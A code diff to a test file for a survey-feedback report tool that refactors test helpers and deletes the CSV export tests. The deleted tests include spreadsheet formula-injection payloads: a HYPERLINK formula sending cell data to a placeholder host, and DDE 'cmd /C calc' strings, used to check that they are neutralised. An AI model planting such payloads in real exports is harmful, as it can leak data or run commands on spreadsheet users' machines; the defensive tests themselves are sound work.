@@ -1,22 +1,13 @@
 import { parse } from "csv-parse/sync";
 import { describe, expect, it } from "vitest";
 import { renderReportHtml } from "../../src/feedback/html.js";
-import { CSV_COLUMNS, renderCsv, renderShortText, renderText } from "../../src/feedback/render.js";
+import { renderCsv, renderShortText, renderText } from "../../src/feedback/render.js";
 import { computeReport, dateRange, LOW_N_NOTE, ratingStats } from "../../src/feedback/report.js";
 import type { StoredRecord } from "../../src/store/port.js";
+import { allRatings, surveyRecord } from "../helpers/survey-records.js";
 
-const all = (n: number) => ({ access: n, procedure: n, staff: n, result: n, feedback: n, online: n, overall: n });
-let seq = 0;
-// Each response from its own respondent unless a test says otherwise (one counts per 30 days).
-const survey = (at: string, ratings: Record<string, number>, extra: Record<string, unknown> = {}): StoredRecord => ({
-  id: `s${seq}`,
-  at: Date.parse(at),
-  flow: "survey",
-  ratings,
-  channel: "zalo",
-  respondent: `respondent-${seq++}`,
-  ...extra,
-});
+const all = allRatings;
+const survey = surveyRecord;
 const NOW = Date.parse("2026-04-01T00:00:00Z");
 
 describe("computeReport", () => {
@@ -123,47 +114,6 @@ describe("one counted response per respondent per 30 days", () => {
     const html = renderReportHtml(computeReport({ survey: [survey("2026-01-01T00:00:00Z", all(5), { respondent: "x" }), survey("2026-01-02T00:00:00Z", all(4), { respondent: "x" })] }, { now: NOW }));
     expect(html).toContain("Mỗi người được tính một phiếu trong 30 ngày");
     expect(html).toContain("1 phiếu được thay bằng phiếu sau");
-  });
-});
-
-describe("renderCsv", () => {
-  it("has a BOM, CRLF rows, fixed columns, masked text and no raw ids", () => {
-    const csv = renderCsv([
-      survey("2026-03-01T00:00:00Z", all(5), { respondent: "abcdef0123456789", chatId: "zchat-raw-1", userId: "zuser-raw-1", comment: 'Tốt, "nhanh"; gọi 0987654321', agency: "UBND xã Tân Phú" }),
-      { id: "bad", at: 1, note: "not a survey" },
-    ]);
-    expect(csv.startsWith("\uFEFF")).toBe(true);
-    const lines = csv.slice(1).trimEnd().split("\r\n");
-    expect(lines[0]).toBe(CSV_COLUMNS.join(","));
-    expect(lines).toHaveLength(2);
-    expect(lines[1]).toContain('"Tốt, ""nhanh""; gọi [số điện thoại]"');
-    expect(lines[1]).toContain("abcdef0123456789");
-    expect(lines[1]).toContain(",5,5,5,5,5,5,5,");
-    expect(csv).not.toMatch(/zchat-raw-1|zuser-raw-1/);
-  });
-
-  it("neutralises formulas in every text column, keeping ratings numeric", () => {
-    const csv = renderCsv([
-      survey("2026-03-01T00:00:00Z", { ...all(5), overall: 4 }, {
-        comment: '=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")',
-        agency: "+cmd|' /C calc'!A0",
-        procedure: "@SUM(1+1)*cmd|' /C calc'!A0",
-        procedureId: "-2+3",
-        ageBand: "\t=1+1",
-      }),
-      survey("2026-03-02T00:00:00Z", all(3), { comment: "Cán bộ -- rất tốt", agency: "UBND xã Tân Phú" }),
-    ]);
-    const [header, first, second] = parse(csv.slice(1)) as string[][];
-    const col = (row: string[] | undefined, name: string) => row![header!.indexOf(name)];
-    expect(col(first, "comment")).toBe(`'=HYPERLINK("http://x.invalid/?d="&A1,"bấm vào")`);
-    expect(col(first, "agency")).toBe("'+cmd|' /C calc'!A0");
-    expect(col(first, "procedure")).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
-    expect(col(first, "procedure_id")).toBe("'-2+3");
-    expect(col(first, "age_band")).toBe("'\t=1+1");
-    expect(col(first, "rating_overall")).toBe("4");
-    // Ordinary text is untouched.
-    expect(col(second, "comment")).toBe("Cán bộ -- rất tốt");
-    expect(col(second, "agency")).toBe("UBND xã Tân Phú");
   });
 });
 
